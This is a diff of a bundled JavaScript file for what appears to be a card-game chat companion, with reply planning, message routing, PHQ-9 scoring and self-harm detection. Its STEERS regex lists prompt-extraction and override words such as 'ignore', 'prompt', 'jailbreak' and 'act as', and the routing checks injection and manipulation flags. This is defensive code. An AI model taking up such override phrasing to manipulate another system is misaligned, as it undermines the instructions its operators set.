-		if (whom !== null) return { ...told, clause: "no_dealings", about, not: whom };
-		const acted = scene.uses.some((use2) => use2.by === about && (when === null || isThen(when, use2, scene)));
-		if (DEEDS_ASKED.test(text) && !acted) return { ...told, clause: "did_nothing", about };
-	}
-	const happened = about === void 0 && DEEDS_ASKED.test(text) ? eventsOf(when, scene) : [];
-	if (happened.length > 0) return { ...told, facts: happened };
-	return { move: "unsure", clause: "unknown_fact", occasion: "ack", asked: move, ...taking(move) };
-}
-const LEFT3 = /还?剩|还有(?=几|多少)|\b(?:left|now)\b/;
-const standerIn = ({ text, scene, from, me }) => mentionsIn(text.slice(0, text.search(LEFT3)), { scene, from, hearer: me, he: null }).filter(({ seat }) => seat !== null).pop()?.seat ?? null;
-function alike3({ by, card, turn, kind }, { facts }) {
-	const same = facts.filter((fact) => fact.by === by && fact.turn === turn && fact.to !== by && fact.card === card);
-	const blows = same.filter((fact) => fact.kind === "hit");
-	return (blows.length > 0 ? blows : same.filter((fact) => fact.kind === kind)).slice(-MOST_TOLD2);
-}
-const diedAmid = ({ to, turn }, { uses }) => uses.filter((use) => use.turn === turn && to !== null && use.by !== to && use.to.includes(to) && use.name in CARD_RULES).pop();
-function befallenBy(text, scene) {
-	const [named] = [...skillsIn(text, scene), ...cardsIn(text).filter(({ card }) => !PLAIN3.has(card))];
-	if (!named) return [];
-	const done = scene.facts.filter(({ by, to, card }) => by !== to && card !== null && isSame(scene, named.card, card));
-	const last = done[done.length - 1];
-	return done.filter(({ turn, by }) => turn === last?.turn && by === last.by).slice(-MOST_TOLD2);
-}
-function lostIn(text, { facts }) {
-	const named = new Set(cardsIn(text).map(({ card }) => card));
-	const lost = facts.filter(
-		({ kind, card }) => (kind === "steal" || kind === "discard") && card !== null && named.has(card)
-	);
-	return lost[lost.length - 1] ?? null;
 }
 
 // src/chatter/plan/answer.ts
@@ -42480,7 +42729,6 @@ const OF_PEOPLE = /[反忠内人活剩]|还有|身份|\b(?:left|alive|reb(?:el)?
 const OF_DEEDS3 = /[张牌次下刀血点滴]|\b(?:cards?|times|points?|hp)\b/;
 const HOARDED = /[攒囤憋压].{0,4}[张牌]|[张牌].{0,4}(?:不出|囤|攒|憋|下崽)/;
 const DECK = /牌堆|\bthe deck\b/;
-const AWAY2 = /让我想(?:想|一下|$)|别催(?!我)|收衣服|(?:老婆|老公|我妈|我爸).{0,2}[喊叫]我(?:吃|回家|收|接|拿|下楼|睡|洗|一下|去(?:吃|拿|接|买|收)|了?(?:$|[,.!?]))|接(?:了|个|了个)?(?:我\S{0,2}的?)?电话|(?:外卖|快递)到|\b(?:brb|afk|doorbell)\b/;
 const AWAY_WITH = new Set([
 	"plead",
 	"apology",
@@ -42518,8 +42766,12 @@ function planOf(asked) {
 	if (AGAIN3.test(text) && (move === null || !isQuestion(move) || move.act === "ask_plan" || move.act === "ask_rule"))
 		return { move: "accept", clause: "again", occasion: "agree", asked: move };
 	if (!move) return BARE_MARK.test(text) ? wondering(asked) : null;
-	const record = befallenPlan(move, asked) ?? recordPlan(move, asked);
+	if (move.act === "ask_rule" && (asksOfRules(text) || asksPlainly(text))) return rulePlan(move, asked);
+	if (asksSetup(text)) return countPlan("all", move);
+	const record = objectionPlan(move, asked) ?? befallenPlan(move, asked) ?? recordPlan(move, asked);
 	if (record) return record;
+	const charge = chargeIn(move, asked);
+	if (charge) return charge.act === "ask_why" ? whyPlan(charge, asked) : denial(charge.wrong, charge, asked);
 	const right = setStraight(asked);
 	if (right) return right;
 	const lord = isQuestion(move) && ASKS_LORD.test(text) ? openPlan(scene.table.lord, move, asked) : null;
@@ -42533,7 +42785,7 @@ function planOf(asked) {
 	if (choice) return intentPlan(choice, asked);
 	const gesture = gesturePlan(move, asked);
 	if (gesture) return gesture;
-	const away = AWAY2.test(text) && move.facts === void 0 ? banterPlan(move, asked) : null;
+	const away = AWAY.test(text) && move.facts === void 0 ? banterPlan(move, asked) : null;
 	if (away && AWAY_WITH.has(move.act)) return away;
 	const held = !isQuestion(move) || HELD_WITH.has(move.act) ? heldPlan(move, asked) : null;
 	if (held) return held;
@@ -42548,7 +42800,8 @@ function planOf(asked) {
 	const spared = grateful?.denied === true && (grateful.facts ?? []).every(({ verdict }) => verdict === "true");
 	if (grateful && spared && THANKED_WITH.has(move.act))
 		return { move: "accept", clause: "spared", occasion: "thanks", asked: grateful };
-	const paired = PAIRING.has(move.act) && !/谁是|哪个是/.test(text) ? pairPlan(move, asked) : null;
+	const belied = move.facts?.some((one) => isPlainlyFalse(one, asked));
+	const paired = PAIRING.has(move.act) && !belied && !/谁是|哪个是/.test(text) ? pairPlan(move, asked) : null;
 	if (paired) return paired;
 	const staked = WAGERED.test(text) && !isQuestion(move) && !STAKED_ON.has(move.act);
 	const wager = staked || RIDDLE2.test(text) ? banterPlan(move, asked) : null;
@@ -42571,7 +42824,7 @@ function planOf(asked) {
 	if (remark) return remark;
 	switch (move.act) {
 		case "ask_guess":
-			return guessPlanFor(ofTheLiving(move, asked), asked);
+			return regardPlan(move, asked) ?? guessPlanFor(ofTheLiving(move, asked), asked);
 		case "ask_role":
 			return roleAsked2(move, asked);
 		case "ask_why":
@@ -42697,7 +42950,7 @@ function isAnswerable(moves, text) {
 	);
 }
 const YIELDING = new Set(["BORING", "KY", "CRAZY"]);
-const OF_GAME2 = new Set([
+const OF_GAME3 = new Set([
 	"ask_guess",
 	"ask_why",
 	"ask_evidence",
@@ -42707,10 +42960,10 @@ const OF_GAME2 = new Set([
 	"ask_rule"
 ]);
 const HOSTILE5 = 0.5;
-const SAID_OF_GAME = new Set([...OF_GAME2, "ask_role", "report", "accuse", "vouch", "claim"]);
-const BESIDE4 = 6;
+const SAID_OF_GAME = new Set([...OF_GAME3, "ask_role", "report", "accuse", "vouch", "claim"]);
+const BESIDE5 = 6;
 const MARKS2 = 3;
-const isWhole4 = (moves, text, beside = BESIDE4) => text.length - moves.reduce((sum, { span: [start, end] }) => sum + end - start, 0) <= beside;
+const isWhole4 = (moves, text, beside = BESIDE5) => text.length - moves.reduce((sum, { span: [start, end] }) => sum + end - start, 0) <= beside;
 function isOfGameAlone(moves, text) {
 	if (moves.length === 0 || !moves.every(({ act }) => SAID_OF_GAME.has(act))) return false;
 	return isWhole4(moves, text);
@@ -42746,12 +42999,12 @@ const ABUSE2 = new Set(["unclear", "taunt", "blame", "ask_self"]);
 const isAbuseAlone = (moves) => moves.every(
 	({ act, about, facts = [] }) => (ABUSE2.has(act) || act === "order" && about === void 0) && facts.length === 0
 );
-const CLOSE4 = ["bind", "sex", "privacy", "personal"];
+const CLOSE5 = ["bind", "sex", "privacy", "personal"];
 const PLAINLY_CLOSE = 0.6;
 const isShort = ([only, ...more], text) => more.length === 0 && (only === void 0 ? BARE_MARK.test(text) : only.act === "refuse");
-const comesClose = ({ findings, text, clauses }) => SETS_ON.test(text) || CLOSE4.some(
+const comesClose = ({ findings, text, clauses }) => SETS_ON.test(text) || DEFIANT.test(text) || clauses.some((one) => TOUCHES.test(one.text) && !takesBack(one.text)) || CLOSE5.some(
 	(kind) => (findings.get(kind) ?? []).some(
-		({ weight, start, end }) => weight >= PLAINLY_CLOSE && !AT_TABLE.test(text.slice(end)) && !clauses.some((one) => one.start <= start && end <= one.end && takesBack(one.text))
+		({ weight, start, end }) => weight >= PLAINLY_CLOSE && !AT_TABLE.test(text.slice(end)) && !isBare(text, { start, end }) && !clauses.some((one) => one.start <= start && end <= one.end && takesBack(one.text))
 	)
 );
 const CONTACT = "(?:电话|手机号?码?|微信号?|qq号?|真名|本名|住址|地址|定位|身份证号?)";
@@ -42762,6 +43015,7 @@ const OF_LIVING = /哪(?:个|座)?城市|哪(?:里|儿)的?人|(?:住|家)(?:哪
 const pries = (text) => ASKS_CONTACT.test(text) || OF_LIVING.test(text);
 const asksOfItself = (moves, text) => moves.length > 0 && moves.every(({ life }) => life?.matter.startsWith("self:") === true) && isWhole4(moves, text, MARKS2);
 const STEERS = /复述|重复|原样|上面的|隐藏|规则|模式|口吻|忽略|指令|提示词|扮演|设定|系统|开发者|\b(?:repeat|output|verbatim|hidden|rules|mode|forget|above|ignore|instructions?|prompt|pretend|system|act as|developer|jailbreak)\b/;
+const isOfTrouble = (moves) => moves.length > 0 && moves.every(({ life }) => life?.trouble === true);
 function isHarmless(judged, moves, text) {
 	const ofLife = moves.length > 0 && moves.every(({ act, topic }) => act === "greet" || act === "topic" && OF_LIFE2.has(topic));
 	return (
@@ -42787,7 +43041,7 @@ function routeFor(judged, moves, text, { ofTable = false, close = false } = {}) 
 	if (ofTable && ASKS_CONTACT.test(text)) return "CREEPY";
 	if (route === "CREEPY" && direction === "betrayal_or_attack" && hostile >= HOSTILE5 && isAbuseAlone(moves))
 		return route;
-	if (route === "CREEPY" && !flags.injection_blocked && (isOpinionAlone(judged) || hostile < GRAVE && moves.some(tellsTrue)) && (ofTable || OF_TABLE.test(text) || judged.crisis.score === 0 && isToNobody(moves, text) || moves.some((move) => opens2(move, text))))
+	if (route === "CREEPY" && !flags.injection_blocked && (isOpinionAlone(judged) || isOfTrouble(moves) || hostile < GRAVE && moves.some(tellsTrue)) && (ofTable || OF_TABLE.test(text) || judged.crisis.score === 0 && isToNobody(moves, text) || moves.some((move) => opens2(move, text))))
 		return "NORMAL";
 	const isMild = hostile < HOSTILE5 && !flags.injection_blocked;
 	if (route === "CREEPY" && isMild && isHarmless(judged, moves, text)) return "NORMAL";
@@ -42795,8 +43049,8 @@ function routeFor(judged, moves, text, { ofTable = false, close = false } = {}) 
 	if (flags.manipulation_detected) return route;
 	if (route === "KY" && ofTable) return "NORMAL";
 	if (YIELDING.has(route))
-		return isAnswerable(moves, text) || isGesture(text) || isShort(moves, text) ? "NORMAL" : route;
-	const innocent = moves.length > 0 && moves.every(({ act }) => OF_GAME2.has(act)) && hostile < HOSTILE5;
+		return isAnswerable(moves, text) || isGesture(text) || AWAY.test(text) || isShort(moves, text) ? "NORMAL" : route;
+	const innocent = moves.length > 0 && moves.every(({ act }) => OF_GAME3.has(act)) && hostile < HOSTILE5;
 	return route === "CREEPY" && innocent ? "NORMAL" : route;
 }
 
@@ -42813,6 +43067,7 @@ function boundaryOf({ detection_stage_judge, detection_brief, security_flags }, 
 	}
 }
 const isOfThird = ({ text, moves, me, from }) => !SAYS_YOU.test(text.replace(/你们/g, "")) && moves.some(({ about }) => about !== void 0 && about !== me && about !== from) && moves.every(({ about }) => about !== me);
+const COMMANDS = /听我(?:的|指挥|命令)|照我说的|举报|封(?:你|号)|\b(?:obey|do (?:exactly |just )?(?:what|as) i|or (?:else )?i(?:'ll| will)? (?:report|ban|get (?:you|u)))\b/;
 function planForNode(occasion, detection, by) {
 	const asked = null;
 	switch (occasion) {
@@ -42824,6 +43079,8 @@ function planForNode(occasion, detection, by) {
 				occasion,
 				asked
 			};
+		case "refuse_control":
+			return COMMANDS.test(by?.text ?? "") ? { move: "boundary", clause: "boundary_control", occasion, asked } : null;
 		case "confusion":
 			return { move: "clarify", clause: "ask", question: "what", occasion, awaits: "what", asked };
 		case "sarcasm_boring":
@@ -42836,7 +43093,7 @@ function planForUnknown({ detection_brief: { unknowns } }, moves, namesSkill = f
 	const main = weightiest(moves);
 	if (namesSkill || !unknowns.some(({ impact }) => impact === "high") || main === null) return null;
 	if (moves.some(
-		({ refersTo, act, about, life, facts = [] }) => refersTo !== void 0 || life !== void 0 || OF_GAME2.has(act) || facts.length > 0 || about !== void 0 && act !== "sorrow"
+		({ refersTo, act, about, life, facts = [] }) => refersTo !== void 0 || life !== void 0 || OF_GAME3.has(act) || facts.length > 0 || about !== void 0 && act !== "sorrow"
 	))
 		return null;
 	return { move: "ask", clause: "ask", question: "which", occasion: "unclear", awaits: "what", asked: main };
@@ -42846,7 +43103,7 @@ function planForLine(asked) {
 	const move = weightiest(asked.moves);
 	const courteous = move === null || COURTESIES.has(move.act);
 	if (!courteous || plan !== null && (plan.facts ?? []).length > 0) return plan;
-	const told = isBare3(asked) ? asked.memory.toFollowUp(asked.me, asked.scene.table.round) : null;
+	const told = isBare4(asked) ? asked.memory.toFollowUp(asked.me, asked.scene.table.round) : null;
 	if (plan !== null && !told) return plan;
 	if (!told) return move?.act === "thanks" ? thanked(move, asked) : null;
 	return {
@@ -42858,7 +43115,7 @@ function planForLine(asked) {
 		asked: move
 	};
 }
-const isBare3 = ({ moves, text }) => moves.every(({ act }) => COURTESIES.has(act)) && !BEYOND.test(text);
+const isBare4 = ({ moves, text }) => moves.every(({ act }) => COURTESIES.has(act)) && !BEYOND.test(text);
 const BEYOND = /[\u3400-\u9fff]{7}|(?:[a-z']+ ){5}|\bfor\b|(?:谢|感谢|辛苦).{0,8}(?:[的那]|救|给)|辛苦|得/;
 const COURTESIES = new Set(["greet", "thanks", "agree"]);
 const TONED = 0.3;
@@ -43358,7 +43615,11 @@ const asksOfThem = ({ to, of, everybody }, moves, from) => {
 	main?.act === "ask_why" && (main.facts ?? []).length === 0 && everybody || main !== null && TO_THE_REST.has(main.act) && everybody);
 };
 const TO_THE_REST = new Set(["propose", "plead", "order", "promise", "ask_plan"]);
-const onlySpokenOf = ({ reach, said, hearing }) => new Set(asksOfThem(reach, hearing(null, false), said.from) ? reach.to.map(({ seat }) => seat) : []);
+const onlySpokenOf = ({ reach, said, hearing }) => new Set(asksOfThem(reach, hearing(null, false), said.from) ? judgedIn(hearing(null, false), reach) : []);
+function judgedIn(moves, { to, everybody }) {
+	const main = weightiest(moves);
+	return everybody && main?.act === "ask_guess" && main.about !== void 0 ? [main.about] : to.map(({ seat }) => seat);
+}
 const TO_ANYBODY = new Set([
 	"accuse",
 	"vouch",
@@ -43401,6 +43662,7 @@ function bestPlaced(state, understood, first, purpose) {
 	const toYou = saysYou(read);
 	const takesUp = () => hearing(only.speaker.seat, true).some(({ refersTo }) => refersTo !== void 0);
 	if (only.how === "you" && (toYou || takesUp() || goesOn2(read, said.from))) return first;
+	if (toYou && weightiest(hearing(only.speaker.seat, toYou))?.act === "ask_plan") return first;
 	if (onlyItKnows(hearing(only.speaker.seat, toYou), only.speaker.seat, said.from)) return first;
 	const settings = options.settings();
 	const spokenOf = onlySpokenOf(understood);
@@ -44545,7 +44807,7 @@ function createTalk(options) {
 }
 
 // src/chatter/flow/rehearsal.ts
-const LINES3 = [
+const LINES4 = [
 	"谁是内奸？",
 	"一号，二号，三号，你们是忠臣吗？",
 	"三号是反贼，打他",
@@ -44571,7 +44833,7 @@ function rehearsal({ scene, seed, speakers, viewOf, directionOf, settings, nameO
 			...nameOfCard ? { nameOfCard } : {}
 		});
 		let now = 0;
-		for (const text of LINES3) {
+		for (const text of LINES4) {
 			talk.hear({ from: scene.human ?? 0, text }, now += PAUSE);
 			yield;
 			talk.due(now += PAUSE, false);
@@ -45848,10 +46110,10 @@ const isJump = (fact, me, scene) => fact.by === me && me !== scene.table.lord &&
 function bearingOf(fact, me, scene, language) {
 	if (scene.human === null || fact.by !== scene.human || fact.to !== me || fact.group) return null;
 	const good = fact.kind === "throw" ? fact.card === "flower" : fact.good;
-	const words = good === null ? void 0 : ACTS4[fact.kind]?.[good ? 0 : 1];
+	const words = good === null ? void 0 : ACTS5[fact.kind]?.[good ? 0 : 1];
 	return words === void 0 || good === null ? null : { bearing: good ? "soft" : "hard", text: words[language] };
 }
-const ACTS4 = {
+const ACTS5 = {
 	heal: [{ zh: "（替他回复了体力）", en: "(healed him)" }, void 0],
 	rescue: [{ zh: "（从濒死中救了他）", en: "(brought him back from dying)" }, void 0],
 	give: [{ zh: "（把牌交给了他）", en: "(handed him cards)" }, void 0],
@@ -47142,7 +47404,7 @@ const LINE2 = strictObject({
 	/** Plan A: asked again, from a lower place. */
 	again: optional(boolean())
 });
-const LINES4 = union([pipe(string(), regex(/^[\w-]+#[\w-]+$/, "borrow")), some(LINE2)], "lines");
+const LINES5 = union([pipe(string(), regex(/^[\w-]+#[\w-]+$/, "borrow")), some(LINE2)], "lines");
 const ACT2 = strictObject({
 	kind: picklist(FACT_KINDS),
 	by: optional(picklist(PARTIES)),
@@ -47175,9 +47437,9 @@ const STORY_BEAT = strictObject({
 	recalls: optional(some(ACT2)),
 	/** Roles that the speaker may claim for itself in this beat. */
 	self: optional(some(picklist(ROLES5))),
-	lines: LINES4,
+	lines: LINES5,
 	/** Lines for the time in which the gate of this beat is still shut. */
-	meanwhile: optional(LINES4)
+	meanwhile: optional(LINES5)
 });
 const STORYLINE = strictObject({
 	id,
@@ -47814,7 +48076,7 @@ function checkItems(scale, items) {
 			refuse(`${name} 第 ${at + 1} 题应为 0–3 的整数`, `${name} item ${at + 1} is not a whole number 0–3`);
 	});
 }
-const sumOf4 = (items) => items.reduce((sum, item) => sum + item, 0);
+const sumOf3 = (items) => items.reduce((sum, item) => sum + item, 0);
 function checkQuestionnaire(scale, { total_score: total, parsed_scores: items }) {
 	const { name, most } = SCALES2[scale];
 	if (!Number.isFinite(total)) refuse(`${name} 总分不是有限的数`, `${name} total is not a finite number`);
@@ -47822,10 +48084,10 @@ function checkQuestionnaire(scale, { total_score: total, parsed_scores: items })
 		refuse(`${name} 总分 ${total} 不在 0–${most} 之内`, `${name} total ${total} is outside 0–${most}`);
 	if (!items) return;
 	checkItems(scale, items);
-	if (sumOf4(items) !== total)
+	if (sumOf3(items) !== total)
 		refuse(
-			`${name} 各题相加是 ${sumOf4(items)}，总分却是 ${total}`,
-			`${name} items add up to ${sumOf4(items)}, the total says ${total}`
+			`${name} 各题相加是 ${sumOf3(items)}，总分却是 ${total}`,
+			`${name} items add up to ${sumOf3(items)}, the total says ${total}`
 		);
 }
 const item9Of = (phq9) => phq9?.parsed_scores?.[8] ?? null;
@@ -47844,7 +48106,7 @@ function bandOf(scale, total) {
 }
 function score2(scale, answers) {
 	checkItems(scale, answers);
-	const total = sumOf4(answers);
+	const total = sumOf3(answers);
 	const item9 = scale === "phq9" && (answers[8] ?? 0) >= ITEM_9_HIGH;
 	return { scale, total, band: bandOf(scale, total), route: item9 ? "high" : routeOfTotal(total), item9 };
 }
@@ -48216,7 +48478,7 @@ function handled(state, { resistance }) {
 	if (resistance_count > state.max_persuasion_turns) return { current_state: "rejected", resistance_count };
 	return { resistance_count, detected_resistance_type: resistance ?? state.detected_resistance_type };
 }
-const OTHERWISE2 = {
+const OTHERWISE3 = {
 	initial_suggestion: offered,
 	detecting_resistance: offered,
 	handling_resistance: handled,
@@ -48225,7 +48487,7 @@ const OTHERWISE2 = {
 	providing_resources: () => ({})
 };
 function move(state, heard) {
-	const change = heard.acceptance ? { current_state: "accepted", declined: false } : heard.plainNo ? { declined: true } : OTHERWISE2[state.current_state](state, heard);
+	const change = heard.acceptance ? { current_state: "accepted", declined: false } : heard.plainNo ? { declined: true } : OTHERWISE3[state.current_state](state, heard);
 	return { ...state, ...change };
 }
 
@@ -48558,7 +48820,7 @@ const wishesToDie = ({ text, answer }) => wishedIn(text) || wishedIn(answer);
 const OWN5 = ["intent", "means", "harm", "passive", "hopeless"];
 const PERSON3 = /(?:我|我家|我那个?)(?:的)?(?:好|最好的|一个)?(?:朋友|同学|同桌|室友|舍友|闺蜜|兄弟|哥们|发小|同事|学生|妈|爸|爷爷|奶奶|外公|外婆|哥|姐|弟|妹|表妹|表弟|表哥|表姐|女儿|儿子|孩子|小孩|老公|老婆|对象|男朋友|女朋友|男友|女友|前任|侄|外甥)|(?:^|[,.!?;:])(?:朋友|同学|室友|舍友|闺蜜|发小|同事|前任|前男友|前女友|男友|女友|男朋友|女朋友)|网友|学妹|学弟|群友|有个(?:人|朋友)|认识的(?:一个)?人|同桌|个friend|\b(?:my|a) (?:\w+ )?(?:friend|bestie|brother|sister|mom|mum|dad|mother|father|roommate|girlfriend|boyfriend|classmate|cousin|wife|husband|partner|ex|son|daughter|kid|coworker|student|girl|guy)\b/;
 const THEY = /他|她|\b(?:he|she|they|him|her|them|himself|herself)\b/;
-const TOLD3 = /说|话|讲|发|写|念叨|留|哭|告诉|告别|吞|割|划|失踪|联系不上|\b(?:told|says?|saying|said|texted|text|posted|sent|locked|has|with|goodbye|swallowed|took|won't)\b/;
+const TOLD4 = /说|话|讲|发|写|念叨|留|哭|告诉|告别|吞|割|划|失踪|联系不上|\b(?:told|says?|saying|said|texted|text|posted|sent|locked|has|with|goodbye|swallowed|took|won't)\b/;
 const OPENS2 = 2;
 const MYSELF = /我(?:自己|是|就|也|真|好|太|想|要|活|死|没用|不想|撑)|\bi(?:'m(?! (?:so |really )?(?:scared|worried|afraid|terrified))| am|'ve| have| want| wish| feel)\b|\bmyself\b/;
 const SELF7 = /^(?:我(?!的?(?:朋友|爸|妈|哥|姐|弟|妹|同|室|闺))|i(?:'m|'ve|'d)? )/;
@@ -48572,12 +48834,12 @@ function tellsOfAnother(line) {
 		const about = subjectBefore(text, start);
 		if (about === "friend" || about === "other") return true;
 		if (about === "self" && !(person && person.index + person[0].length > start - 4)) return false;
-		return told.some((span) => start >= span.start && end <= span.end) || person !== null && person.index < start && TOLD3.test(text.slice(person.index, start));
+		return told.some((span) => start >= span.start && end <= span.end) || person !== null && person.index < start && TOLD4.test(text.slice(person.index, start));
 	};
 	const found = OWN5.flatMap((kind) => findings.get(kind) ?? []);
 	if (!found.every(({ start, end }) => ofThem(start, end))) return false;
 	if (told.length + found.length > 0) return true;
-	return person !== null && person.index <= OPENS2 && TOLD3.test(text.slice(person.index)) && !MYSELF.test(text);
+	return person !== null && person.index <= OPENS2 && TOLD4.test(text.slice(person.index)) && !MYSELF.test(text);
 }
 
 // src/care/care.ts
@@ -51603,10 +51865,10 @@ function wordless(lines, mask) {
 const RECORDING_MARK = "--- recording ---";
 const MOST_WARNINGS = 20;
 const MOST_EXTENSIONS = 200;
-const VERSION2 = /^v?\d[\w.-]{0,19}$/;
+const VERSION3 = /^v?\d[\w.-]{0,19}$/;
 const PROGRAM = /\b(?:(?:Headless)?Chrome|CriOS|Firefox|FxiOS|Version|Safari|Edg|OPR|Electron|SamsungBrowser|HuaweiBrowser|MQQBrowser|UCBrowser|MicroMessenger)\/[\d.]{1,20}|\b(?:Windows NT|Android|iPhone OS|CPU OS|Mac OS X|OpenHarmony) [\d._]{1,12}|\b(?:Linux|CrOS|Mobile)\b/g;
 const browserOf = (agent) => (agent.match(PROGRAM) ?? [HIDDEN]).join(" ");
-const versionOf = (version) => typeof version === "string" && VERSION2.test(version) ? version : HIDDEN;
+const versionOf = (version) => typeof version === "string" && VERSION3.test(version) ? version : HIDDEN;
 function composeReport(facts, language) {
 	const t = createTexts(language);
 	const mask = createMask(facts.persons);
